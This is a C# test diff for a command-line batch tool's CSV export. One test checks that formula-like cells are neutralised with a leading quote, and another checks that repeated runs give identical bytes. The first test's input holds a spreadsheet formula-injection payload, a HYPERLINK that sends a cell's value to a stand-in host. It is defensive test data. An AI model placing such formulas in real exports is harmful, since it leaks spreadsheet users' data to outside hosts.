@@ -95,6 +95,52 @@ public sealed class BatchCommandTests
     }
 
     [Fact]
+    public void Cells_a_spreadsheet_would_take_for_formulas_are_written_as_text()
+    {
+        var input = Directory.CreateTempSubdirectory("batch-in-").FullName;
+        try
+        {
+            File.WriteAllText(Path.Combine(input, "a.json"), """
+                { "enterprise": { "id": "@SUM(A1)", "name": "=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"click\")", "regionCode": "330106", "industryCode": "3670" },
+                  "headcount": { "laborContract": 50, "dispatched": 50, "outsourced": 0 } }
+                """);
+
+            Cli.Run("batch", input, "--as-of", "2024-06-30", "--out", Path.Combine(input, "out")).Exit.Should().Be(1);
+
+            var summary = File.ReadAllText(Path.Combine(input, "out", "summary.csv"));
+            summary.Should().Contain("'@SUM(A1)").And.Contain("\"'=HYPERLINK(").And.NotContain(",=HYPERLINK").And.NotContain(",@SUM");
+            File.ReadAllText(Path.Combine(input, "out", "violations.csv")).Should().Contain("'@SUM(A1)");
+        }
+        finally
+        {
+            Directory.Delete(input, recursive: true);
+        }
+    }
+
+    [Fact]
+    public void The_same_batch_gives_the_same_bytes_workbook_included()
+    {
+        var output = Directory.CreateTempSubdirectory("batch-twice-").FullName;
+        try
+        {
+            var first = Path.Combine(output, "first");
+            var second = Path.Combine(output, "second");
+            Cli.Run("batch", Cli.Sample("."), "--as-of", "2024-06-30", "--out", first).Exit.Should().Be(1);
+            Cli.Run("batch", Cli.Sample("."), "--as-of", "2024-06-30", "--out", second, "--parallel", "1").Exit.Should().Be(1);
+
+            foreach (var file in Directory.GetFiles(first, "*", SearchOption.AllDirectories))
+            {
+                var twin = Path.Combine(second, Path.GetRelativePath(first, file));
+                File.ReadAllBytes(twin).Should().Equal(File.ReadAllBytes(file), Path.GetRelativePath(first, file));
+            }
+        }
+        finally
+        {
+            Directory.Delete(output, recursive: true);
+        }
+    }
+
+    [Fact]
     public void Missing_folder_exits_2()
     {
         var (exit, _, stderr) = Cli.Run("batch", Path.Combine(Cli.Batch, "nope"), "--out", Path.GetTempPath());
